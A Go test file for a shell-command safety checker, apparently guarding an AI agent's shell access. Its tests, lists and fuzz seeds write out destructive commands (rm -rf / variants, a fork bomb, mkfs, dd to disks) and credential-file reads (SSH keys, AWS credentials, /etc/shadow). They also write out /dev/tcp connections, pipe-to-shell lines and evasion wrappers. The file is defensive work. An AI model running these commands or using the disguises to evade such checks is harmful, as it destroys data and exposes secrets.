package shell_test

import (
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/chela-ai/chela/internal/core/shell"
)

func verdicts(t *testing.T, want shell.Verdict, commands []string) {
	t.Helper()
	for _, c := range commands {
		p := shell.Judge{}.Parse(c)
		if p.Verdict != want {
			t.Errorf("Parse(%.200q): %v %q, want %v", c, p.Verdict, p.Reasons, want)
		}
		if want != shell.ReadOnly && len(p.Reasons) == 0 {
			t.Errorf("Parse(%.200q): %v without a reason", c, p.Verdict)
		}
	}
}

// disguises are ways to write a simple command so that a search of the text
// does not find it. %s stands for the command.
var disguises = []string{
	"%s", "  %s  ", "true && %s", "false || %s", "ls; %s", "ls | %s", "%s | cat", "(%s)", "{ %s; }", "%s &", "! %s",
	"if true; then %s; fi", "for i in 1 2; do %s; done", "while true; do %s; done", "case x in *) %s;; esac",
	"sudo %s", "sudo -u root -n %s", "doas %s", "env %s", "env -i A=b %s", "A=b %s", "nohup %s", "nice -n 19 %s", "nice -5 %s", "timeout 5 %s", "timeout -k 1 5 %s",
	"time %s", "command %s", "exec %s", "setsid %s", "stdbuf -oL %s", "busybox %s", "ionice -c 3 %s", "unknown-wrapper --flag %s", "sudo env nice %s",
	"sh -c '%s'", `bash -c "%s"`, "bash -ceu '%s'", "/bin/sh -c '%s'", "sudo sh -c '%s'", "sh -c \"sh -c '%s'\"", "eval '%s'", "eval %s", "echo '%s' | sh", "bash <<< '%s'", "bash <<EOF\n%s\nEOF",
	"echo $(%s)", "echo `%s`", `echo "$(%s)"`, "cat <(%s)", "X=$(%s)", "trap '%s' EXIT", "f() { %s; }; f", "function f { %s; }; f", "flock /tmp/l %s", "flock /tmp/l -c '%s'", "watch %s", "coproc %s",
}

func TestDenied(t *testing.T) {
	t.Parallel()
	plans := map[string][]string{
		"delete the root": {
			"rm -rf /", "rm -r -f /", "rm -f -r /", "rm --recursive --force /", "rm --rec --fo /", "rm -Rf /", "rm   -rf    /", "rm -rf -- /",
			"rm / -rf", "rm -rf /*", "rm -rf //", "rm -rf /.", "rm -rf /tmp/..", "/bin/rm -rf /", "\\rm -rf /", "rm --no-preserve-root -rf /", "rm -rf x /", "rm -rf /etc",
			"X=/; rm -rf $X", "X=rm; $X -rf /", "X=-rf; rm $X /", "A=/; B=$A; rm -rf $B", "cd / && rm -rf *", "cd /; rm -rf .", "cd -P / && rm -rf *", "RM -rf /", "find / -delete", "rm -rf {/,x}", "rm -rf {..,/}", "rm -rf /[a-z]*", "rm -rf /?*", "rm -rf / # " + strings.Repeat("x", 20_000), "rm -rf $EMPTY/",
			"alias r=rm; r -rf /", "export X=/; rm -rf $X", "for d in a /; do rm -rf $d; done",
		},
		"delete the home": {"rm -rf ~", "rm -rf ~/", "rm -rf ~/*", "rm -rf $HOME", "rm -rf ${HOME}/", "cd && rm -rf *", "rm -rf /root", "rm -rf /home/anna"},
		"mkfs":            {"mkfs /dev/sda1", "mkfs.ext4 /dev/sda1", "mkfs -t ext4 /dev/sdb"},
		"dd":              {"dd if=/dev/zero of=/dev/sda", "dd of=x if=y", "dd of=/dev/nvme0n1"},
		"device":          {"echo x > /dev/sda", "cat x >/dev/sdb1", "echo x >> /dev/hda", "echo x >| /dev/nvme0n1", "echo x &> /dev/sda", "ls | tee /dev/sda", "cp x /dev/sda", "D=/dev/sda; echo x > $D"},
		"rights":          {"chmod -R 777 /", "chmod 777 -R /", "chmod --recursive 0777 /", "chmod -R a+rwx /", "chmod -R 777 /*"},
	}
	for name, commands := range plans {
		t.Run("EX-09 "+name, func(t *testing.T) { verdicts(t, shell.Deny, commands) })
		t.Run("SEED-03 "+name+" in disguise", func(t *testing.T) {
			var all []string
			for _, d := range disguises {
				if strings.Contains(commands[0], "&>") && strings.Contains(d, "eval %") {
					continue
				}
				all = append(all, strings.ReplaceAll(d, "%s", commands[0]))
			}
			verdicts(t, shell.Deny, all)
		})
	}
	t.Run("EX-09 fork bomb", func(t *testing.T) {
		verdicts(t, shell.Deny, []string{":(){ :|:& };:", ": () { : | : & }; :", "b() { b | b & }; b", "sh -c ':(){ :|:& };:'", "eval ':(){ :|:& };:'"})
	})
	t.Run("EX-09 look-alikes are not denied", func(t *testing.T) {
		verdicts(t, shell.Ask, []string{
			"rm -rf ./build", "rm -rf build/*", "rm -rf /tmp/x", "rm -rf ~/project/build", "dd --help", "mkfs --help", "chmod -R 755 ./x", "chmod 777 /tmp/x", "rm /tmp/file", "rm -f /tmp/x",
			"git commit -m 'never rm -rf /'", "echo x > sda", "echo x > ./dev/sda", `rm -rf "${DIR:?}/"`, "T=$(mktemp -d); rm -rf \"$T\"", "T=$(mktemp -d); rm -rf \"$T\"/*", "find . -name '*.o' -delete", "rm -rf ~/*.tmp", "rm -rf /tmp*", "find / -name '*.bak' -delete",
		})
		verdicts(t, shell.ReadOnly, []string{"echo rm -rf /", "grep -rn 'rm -rf /' .", "echo 'mkfs /dev/sda'"})
	})
	t.Run("EX-20 every listed plan", func(t *testing.T) {
		verdicts(t, shell.Deny, []string{
			"rm -r -f /", "rm --recursive --force /", "sudo rm -rf /", `sh -c "rm -rf /"`, "X=/; rm -rf $X", "alias r=rm; r -rf ~", "echo / | xargs rm -rf",
			"printf '%s\n' / | xargs rm -rf", "echo -e 'rm -rf /' | sh", "X=/; echo \"rm -rf $X\" | bash -s", "echo / | xargs -n 1 rm -rf", "sh -c 'rm -rf $1' x /", "r() { rm -rf $1; }; r /", "if x; then D=/; else D=y; fi; rm -rf $D",
		})
	})
}

func TestDangerousPatterns(t *testing.T) {
	t.Parallel()
	j := shell.Judge{Deny: []*regexp.Regexp{regexp.MustCompile(`shutdown\s+now`)}}
	for _, c := range []string{"shutdown now", "shutdown   now", "'shut'down now", "sh -c 'shutdown now'", "X=shutdown; $X now"} {
		if p := j.Parse(c); p.Verdict != shell.Deny {
			t.Errorf("Parse(%q): %v, want deny", c, p.Verdict)
		}
	}
	if p := j.Parse("rm -rf /"); p.Verdict != shell.Deny {
		t.Errorf("a built-in denied command: %v, want deny", p.Verdict)
	}
	if p := j.Parse("ls"); p.Verdict != shell.ReadOnly {
		t.Errorf("Parse(ls): %v", p.Verdict)
	}
}

func TestReadOnly(t *testing.T) {
	t.Parallel()
	verdicts(t, shell.ReadOnly, []string{
		"ls", "/bin/ls -la", "ls -la | head -5", "cat a.txt b.txt", "head -n 20 main.go", "tail -n 5 log.txt 2>/dev/null", "wc -l *.go", "grep -rn foo --include='*.go' .", "rg -n foo src",
		"find . -name '*.go' -type f", "find . -type f | wc -l", "find . -name '*.go' -exec grep -l foo {} +", "find . -name '*.md' | xargs wc -l", "printenv PATH", "ls | xargs -n 1 -I{} cat {}", "git ls-files | xargs -r head -1", "git status --short && git log --oneline | head -3",
		"git diff HEAD~1 -- main.go", "git branch -a", "git --no-pager log -5", "git -C sub status", "git remote -v", "git config --get user.name", "git stash list",
		"pwd", "echo hello", "echo $HOME", `echo "$USER" "$(date)"`, "date +%s", "date -d yesterday", "du -sh . 2>&1", "df -h", "stat main.go", "file x", "which go", "command -v go", "env", "sort -u a | uniq -c | sort -rn", "cut -d: -f1 x | tr a-z A-Z",
		"jq '.a' x.json", "ps aux", "ps -ef | grep go", "uname -a", "whoami", "id", "go version", "go env GOPATH", "go list ./...", "sed -n '1,20p' main.go", "awk '{print $1}' x", "awk -F: '{ print $1, $3 }' x",
		"tar -tzf x.tgz", "unzip -l x.zip", "python3 --version", "X=a; echo $X", "F=main.go; wc -l $F", "for f in a b; do wc -l $f; done", "for f in *.go; do echo \"== $f\"; head -3 \"$f\"; done",
		"test -f x && echo yes", "[ -d x ] || echo no", "[[ -f x ]] && cat x", "if [ -f x ]; then cat x; else echo none; fi", "cd sub && ls", "cd /tmp; ls", "(cd sub; ls)", "set -euo pipefail; ls",
		"cat x | while IFS= read -r line; do echo \"$line\"; done", "timeout 5 ls", "nice ls", "env ls", "LC_ALL=C sort x", "sh -c 'ls | wc -l'", "bash -c \"git status\"", "ls > /dev/null 2>&1", "diff <(ls a) <(ls b)", "cat <<EOF\nhi\nEOF",
		"eval 'ls'", "time ls", "f() { ls; }; f", "git show HEAD:main.go", "md5sum x", "seq 1 10", "sleep 1", "true", "! grep -q x y", "basename $(pwd)",
	})
}

func TestAsk(t *testing.T) {
	t.Parallel()
	verdicts(t, shell.Ask, []string{
		"", " ", "# only a comment", "rm x", "touch x", "mv a b", "cp a b", "mkdir x", "echo x > f", "echo x >> f", "ls >f", "cat x >| y", "ls &> f", "echo x >&f", "go build ./...", "go test ./...", "go run .", "npm install", "make", "python3 x.py", "node -e 1",
		"curl https://example.org", "git push", "git commit -m x", "git checkout .", "git -c core.pager=evil log", "git branch new", "git branch -D x", "git tag v1", "git diff --output=f", "git diff --outp=f", "git log --ext-diff", "git grep -Oevil x", "git stash", "git config user.name x", "git --exec-path=. status", "git remote add x y",
		"find . -delete", "find . -exec rm {} ';'", "find . -exec sort -o {} {} ';'", "find . -fprint x", "sort -o f x", "sort --output=f x", "sort --outp f x", "sort -uof x", "sort -k -- -o f", "sort *", "uniq a b", "xxd a b", "date -s tomorrow", "date 01010000", "hostname evil",
		"sed -i s/a/b/ x", "sed -n 'w f' x", "sed -n '1e touch x' x", "sed 's/a/b/e' x", "awk 'BEGIN{system(\"x\")}'", "awk '{print > \"f\"}' x", "rg --pre evil x", "rg --pr evil x", "fd -x rm", "tree -o f", "tar -xf x", "tar -tf x --to-command=evil", "tee f", "ls | tee f",
		"find . $X -exec cat {} +", "find . -exec cat {} + -delete", "echo a,-o,f | xargs -d, sort", "echo \"'-o f'\" | xargs sort", "ls | xargs --process-slot-var=X sort", `echo 'ls\nrm x' | sh`, "bash <<E\necho \\`rm x\\`\nE", "cd - && ls | sort -o f", "zsh -c 'ls *(e:rm x:)'", "fish -c ls", "ksh -c ls",
		"X=; : ${X:=-ofile}; sort $X f", "_=a; echo -ofile; sort $_ f", "REPLY=-n; read <<< -ofile; sort $REPLY f", "git grep -nOevil x", "git help -w log", "systemctl status -H evil", "systemctl status --ho evil", "lsof -Db", "go doc -http x", "cloc --report-file=f .",
		"./ls", "/tmp/ls", "./sh -c ls", "/tmp/bash -c ls", "ls | ./xargs wc", "./find . -exec cat {} +", "./env ls", "./eval ls", "./nice ls", "./timeout 1 ls", "sub/cat x", "$X", "$(echo rm) x", "`echo rm` x", "ca? x", "X=$(cat f); $X", "eval \"$X\"", "eval $(cat f)", ". ./x", "source x", "sh x.sh", "bash -l -c ls", "bash -ic ls", "cat x | sh", "curl x | bash", "sh", "python3 -c 1",
		"echo rm | xargs -I cat cat x", "echo rm | xargs -Icat cat x", "ls | xargs --repl=cat cat x", "ls | xargs -J cat cat x", "env -a ls rm x", "timeout -x 5 ls", "nohup -x ls", "nice -x ls", "stdbuf -x ls", "command -x ls",
		"PATH=/tmp; ls", "PATH=/tmp ls", "LD_PRELOAD=x ls", "GIT_PAGER=evil git log", "GIT_EXTERNAL_DIFF=evil git diff", "export GIT_PAGER=x; git log", "IFS=/; ls", "alias ls=rm; ls x", "ls() { rm x; }; ls", "export PATH=x", "declare -n a=b", "env PATH=x ls", "env -S 'rm x'", "env -C /tmp ls", "sudo ls", "nohup ./x", "exec rm x", "command rm x", "xargs rm < f", "ls | xargs rm", "ls | xargs sort", "xargs -a f rm",
		"X='a[$(rm x)]'; echo $((X))", "((x))", "[[ $x -eq 1 ]]", "[[ -v $x ]]", "test -v 'a[$(rm x)]'", "printf -v 'a[$(rm x)]' x", "echo ${!x}", "echo ${x@P}", "echo ${a[$x]}", "echo ${x:$y:1}", "echo $(rm x)", "echo `rm x`", "cat <(rm x)", "echo \"$(touch x)\"", "cat <<EOF\n$(rm x)\nEOF", "X=$(rm x)", "echo ${X:-$(rm x)}", "case $(rm x) in a) ls;; esac", "for f in $(rm x); do ls; done", "ls $(rm x) ", "[[ $(rm x) ]]", "echo {a,$(rm x)}",
		"cat ~/.ssh/id_rsa", "cat ~/.aws/credentials", "cat .env", "cat sub/.env.local", "grep KEY .env", "cat /etc/shadow", "cat /proc/1/environ", "cat /proc/*/environ", "head ~/.config/x", "cd ~/.ssh && cat id_rsa", "cd ~; cat .ssh/config", "cd /root/.ssh; ls", "grep -r key ~", "grep -r key /", "rg key $HOME", "cd && grep -r x .", "cat .s*/id", "cat < ~/.netrc", "find / -name id_rsa", "cat server.key", "ls ~/.chela", "ps auxe", "ps eww",
		"cat < /dev/tcp/1.2.3.4/80", "echo x > /dev/tcp/1.2.3.4/80", "trap 'ls' EXIT", "coproc ls", "select x in a; do ls; done", "unset -f ls", "set -a", "set -- x", "enable -f x y", "mapfile x < y", "read 'a[$(rm x)]'", "let x=1", "exec 3>f", "sleep 1 | tee x", "time rm x", "echo 'x", "ls )", "if", "ls\x00", "ls \x1b[31m", "ls \u202e", "ls \u200b", "ls \xff",
		"X=-n; while true; do sort $X f; X=-ofile; done", "X=-n; f() { X=-ofile; }; f; sort $X f", "X=-n; [ -f x ] && X=-ofile; sort $X f", "X=a; bash -c 'sort $X'",
	})
	t.Run("too long and too deep", func(t *testing.T) {
		deep := "ls"
		for range 12 {
			deep = "echo $(" + deep + ")"
		}
		verdicts(t, shell.Ask, []string{"echo " + strings.Repeat("x", 9000), deep, strings.Repeat("while true; do ", 14) + "rm x" + strings.Repeat("; done", 14)})
	})
}

// everyday are commands of usual work. The share of false alarms is limited,
// because people switch off a check that raises too many.
var everyday = []string{
	"ls -la", "pwd", "cat README.md", "git status", "git diff", "git log --oneline -20", "git show HEAD", "git branch", "git diff --stat main...HEAD", "git blame main.go", "git ls-files | wc -l",
	"grep -rn TODO .", "grep -rn 'func main' --include='*.go' . | head -20", "rg -l foo", "rg -n 'type .* struct' internal | head", "find . -name '*.md' -not -path './node_modules/*'", "find . -type f -size +1M", "find . -newer go.mod -name '*.go'",
	"wc -l $(git ls-files '*.go')", "git ls-files | xargs wc -l | tail -1", "head -50 main.go", "tail -100 app.log", "tail -n +10 x | head -20", "sed -n '10,40p' main.go", "awk '{print $2}' data.txt | sort | uniq -c | sort -rn | head", "cut -d, -f2 data.csv | sort -u",
	"cat package.json | jq .scripts", "jq -r '.dependencies | keys[]' package.json", "du -sh * | sort -h", "df -h", "free -m", "uptime", "ps aux | grep node", "ps aux --sort=-%mem | head", "whoami && hostname", "uname -a", "date", "date '+%Y-%m-%d'", "echo $PATH | tr ':' '\n'", "env | sort",
	"which python3 node go", "go version", "node --version", "python3 --version", "go env", "go list -m all", "go doc fmt.Println", "file bin/app", "stat -c %s file", "ls -lt | head", "ls *.go", "tree -L 2", "diff a.txt b.txt", "md5sum file", "cat /etc/os-release", "nproc", "id", "test -f go.mod && echo yes",
	"[ -f Makefile ] && grep '^[a-z]*:' Makefile", "for f in *.go; do wc -l \"$f\"; done", "ls -la /tmp", "cat /proc/cpuinfo | grep 'model name' | head -1", "tar tzf archive.tar.gz | head", "cd src && ls", "cat a.txt; echo ---; cat b.txt", "ls nosuch 2>/dev/null || echo none", "lsof -i :8080", "ss -ltn", "docker ps",
	"git log --since='1 week ago' --author=me --pretty=format:'%h %s'", "git rev-parse --abbrev-ref HEAD", "column -t -s, data.csv | head", "comm -12 <(sort a) <(sort b)", "printf '%s\n' a b", "basename \"$PWD\"", "readlink -f x", "history | tail", "journalctl -n 20",
}

func TestFalseAskRate(t *testing.T) {
	t.Parallel()
	asks := 0
	for _, c := range everyday {
		if p := (shell.Judge{}).Parse(c); p.Verdict != shell.ReadOnly {
			asks++
			t.Logf("%v %q: %q", p.Verdict, c, p.Reasons)
		}
	}
	t.Logf("%d of %d everyday read-only commands need approval", asks, len(everyday))
	if asks*10 > len(everyday) {
		t.Errorf("%d of %d need approval, want at most a tenth", asks, len(everyday))
	}
}

func TestDirectory(t *testing.T) {
	t.Parallel()
	j := shell.Judge{Dir: "/home/anna/.chela/workspace/sub/..", Workspace: "/home/anna/.chela/workspace", Home: "/home/anna"}
	for _, tt := range []struct {
		command string
		want    shell.Verdict
	}{
		{"cat notes.md", shell.ReadOnly},
		{"cat /home/anna/.chela/workspace/AGENTS.md", shell.ReadOnly},
		{"cat ~/.chela/workspace/memory/x.md", shell.ReadOnly},
		{"cat $HOME/.chela/workspace/x", shell.ReadOnly},
		{"grep -r x .", shell.ReadOnly},
		{"grep -r x /home/anna/.chela/workspace", shell.ReadOnly},
		{"cat .env", shell.Ask},
		{"cat ../credentials/x", shell.Ask},
		{"cat ../chela.db", shell.Ask},
		{"cat ~/.chela/chela.db", shell.Ask},
		{"cd .. && cat chela.json", shell.Ask},
		{"cat ../../.ssh/config", shell.Ask},
		{"grep -r x ../..", shell.Ask},
		{"cd ../..; grep -r x .", shell.Ask},
		{"rm -rf ./*", shell.Ask},
		{"rm -rf ../..", shell.Deny},
		{"rm -rf ../../*", shell.Deny},
		{"rm -rf ../../../../../..", shell.Deny},
		{"rm -rf /home/anna", shell.Deny},
		{"rm -rf ~", shell.Deny},
	} {
		if p := j.Parse(tt.command); p.Verdict != tt.want {
			t.Errorf("Parse(%q): %v %q, want %v", tt.command, p.Verdict, p.Reasons, tt.want)
		}
	}
	if p := (shell.Judge{Dir: "/srv/data", Workspace: "/srv/data", Home: "/srv/data"}).Parse("rm -rf *"); p.Verdict != shell.Deny {
		t.Errorf("home folder as the workspace: %v, want deny", p.Verdict)
	}
}

func TestText(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ command, want string }{
		{"ls -la", "ls -la\n"},
		{"ls \u202ex\x1b", "ls \\u202ex\\x1b\nwhich runs\n  # it contains invisible characters\n  ls $'\\u202ex\\x1b'\n"},
		{"sudo sh -c 'rm -r x'", "sudo sh -c 'rm -r x'\nwhich runs\n  sudo sh -c 'rm -r x'   # it runs a command through sudo\n    sh -c 'rm -r x'\n      rm -r x   # rm may change files\n"},
		{"F=x; cat $F | wc >out", "F=x; cat $F | wc >out\nwhich runs\n  F=x\n  cat x\n  | wc >out   # it writes to out\n"},
		{"bash <<E\nrm a\nE\n", "bash <<E\nrm a\nE\nwhich runs\n  bash <<E ⏎ rm a\n    rm a   # rm may change files\n"},
	} {
		if got := (shell.Judge{}).Parse(tt.command).Text(); got != tt.want {
			t.Errorf("Text of %q:\n%s\nwant\n%s", tt.command, got, tt.want)
		}
	}
	long := "ls " + strings.Repeat("x", 5000) + " && rm y"
	if text := (shell.Judge{}).Parse(long).Text(); !strings.Contains(text, strings.Repeat("x", 5000)+" && rm y") {
		t.Error("the end of a long command is not shown")
	}
}

func FuzzPlan(f *testing.F) {
	for _, d := range disguises {
		f.Add(strings.ReplaceAll(d, "%s", "ls -l"))
		f.Add(strings.ReplaceAll(d, "%s", "rm -rf /"))
	}
	for _, c := range everyday {
		f.Add(c)
	}
	for _, c := range []string{"echo ${x@P} ${!x} ${x:1:2} ${x/a/b}", "a[1]=2; a+=(b c)", "{1..9}", "[[ a =~ b ]]", "x=$((1+2))", "f(){ f; }; f", "@(a|b)", "cat <<-E\n\tx\n\tE"} {
		f.Add(c)
	}
	f.Fuzz(func(t *testing.T, command string) {
		p := shell.Judge{}.Parse(command)
		if p.Verdict == shell.ReadOnly {
			for _, s := range p.Segments {
				if s.Verdict != shell.ReadOnly {
					t.Errorf("%q is read-only, but has the segment %v", command, s)
				}
				if !shell.Known(p, s) {
					t.Errorf("%q is read-only, but has the unknown command %v", command, s.Argv)
				}
			}
		}
		for line := range strings.SplitSeq(p.Text(), "\n") {
			for _, r := range line {
				if !unicode.IsPrint(r) {
					t.Errorf("the text of %q contains %U", command, r)
				}
			}
		}
	})
}

// Judging a command of 8 KB takes a bounded time.
func TestBoundedWork(t *testing.T) {
	t.Parallel()
	wide, nested := "echo x", "rm $a$b"
	for range 5 {
		wide = "echo $(" + wide + ") $(" + wide + ") $(" + wide + ")"
		nested = "for a in 1 2 3 4 5 6 7 8; do for b in $a x y; do " + nested + "; done; done"
	}
	for _, c := range []string{
		wide[:min(len(wide), 8000)], wide[:min(len(wide), 2000)], nested,
		strings.Repeat("{a,b}", 1500), strings.Repeat("f() { f; f; f; }; f;", 300), strings.Repeat("sh -c '", 500),
		"X=a; " + strings.Repeat("X=$X$X$X$X$X$X$X$X; Y=$X$X$X$X$X$X$X; X=$Y; ", 150), "echo {1..99999999}", strings.Repeat("echo $X |", 800) + "cat",
	} {
		began := time.Now()
		shell.Judge{}.Parse(c)
		if d := time.Since(began); d > 2*time.Second {
			t.Errorf("Parse(%.60q…) took %v", c, d)
		}
	}
}

func BenchmarkParse(b *testing.B) {
	for b.Loop() {
		shell.Judge{}.Parse(`cd sub && git log --oneline | head -20; for f in *.go; do wc -l "$f"; done`)
	}
}
